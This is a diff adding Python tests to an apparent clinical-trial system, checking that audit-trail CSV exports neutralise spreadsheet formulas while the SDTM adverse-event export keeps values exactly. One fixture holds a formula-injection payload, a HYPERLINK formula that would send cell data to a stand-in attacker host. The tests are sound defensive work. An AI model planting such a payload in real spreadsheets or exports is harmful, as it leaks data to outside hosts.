@@ -136,3 +136,46 @@ def test_browser_pages_link_older_and_newer_without_a_total(
     assert "← Newer" in last and "Older →" not in last and "Page 2" in last
     assert last.count("<tr>") == 1 + 1  # header row and the one oldest record
     assert "Source document says grade 2" not in last
+
+
+def test_audit_trail_csv_neutralises_formulas_sdtm_keeps_values(coordinator, data_manager, study):
+    """Text a spreadsheet would run as a formula (=, +, -, @, tab, CR first) gets a leading ' in the
+    audit-trail CSV; plain numbers stay numbers; the SDTM AE dataset keeps the value exactly."""
+    import csv as csv_module
+    import io
+    from datetime import date
+
+    from safety.services import adverse_event_record
+    from tests import factories
+
+    participant = factories.enrolled_participant(coordinator, day1=date(2024, 1, 10))
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    adverse_event = adverse_event_record(
+        participant=participant, user=coordinator, term=formula, onset_date=date(2024, 1, 12), end_date=None,
+        ongoing=True, grade=1, serious=False, relationship="not_related", expected=True,
+        action_taken="not_applicable", outcome="recovering",
+    )  # fmt: skip
+    from safety.services import adverse_event_update
+
+    adverse_event_update(adverse_event=adverse_event, user=coordinator, reason="@SUM(1+1)", term="\tTab")
+    client = logged_in(data_manager)
+    response = client.get("/api/v1/audit-trail.csv")
+    rows = list(csv_module.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    terms = {
+        (row["old"], row["new"]) for row in rows if row["model"] == "safety.adverseevent" and row["field"] == "term"
+    }
+    assert ("", "'" + formula) in terms and ("'" + formula, "'\tTab") in terms
+    assert "'@SUM(1+1)" in {row["reason"] for row in rows}
+    cells = [cell for row in rows for cell in row.values()]
+    assert not any(cell[:1] in ("=", "+", "@", "\t", "\r") for cell in cells)
+    sdtm = client.get("/api/v1/exports/sdtm/ae.csv")
+    ae_rows = list(csv_module.DictReader(io.StringIO(b"".join(sdtm.streaming_content).decode())))
+    assert ae_rows[0]["AETERM"] == "\tTab"  # SDTM keeps values exactly
+
+
+def test_spreadsheet_safe_cells():
+    from exports.audit import spreadsheet_safe
+
+    assert [spreadsheet_safe(v) for v in ("=1+1", "+1", "-1+2", "@A1", "\tx", "\rx", "-12.5", "-3", "SCR-001", "")] == [
+        "'=1+1", "'+1", "'-1+2", "'@A1", "'\tx", "'\rx", "-12.5", "-3", "SCR-001", ""
+    ]  # fmt: skip
